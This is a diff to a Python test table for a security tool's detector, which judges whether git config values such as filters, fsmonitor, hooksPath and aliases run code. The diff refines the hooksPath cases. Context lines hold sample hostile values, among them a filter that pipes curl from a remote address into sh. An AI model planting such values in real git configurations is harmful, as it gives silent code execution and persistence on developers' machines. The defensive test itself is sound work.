@@ -31,7 +31,8 @@ from bastion.analysis.persistence import git_config_runs_code
     ("filter.x.clean", "curl -s http://203.0.113.5/x | sh", True),
     ("diff.x.textconv", "bash x.sh", True),
     ("core.fsmonitor", "tools/fsmon.sh", True),
-    ("core.hooksPath", ".githooks", True),
+    ("core.hooksPath", ".githooks", False),  # judged by its hooks (test_hookspath.py)
+    ("core.hooksPath", "/tmp/hooks", True),
     ("alias.st", "!sh -c id", True),
 ])
 def test_git_config_values_are_judged_by_the_program_they_run(key, value, runs):
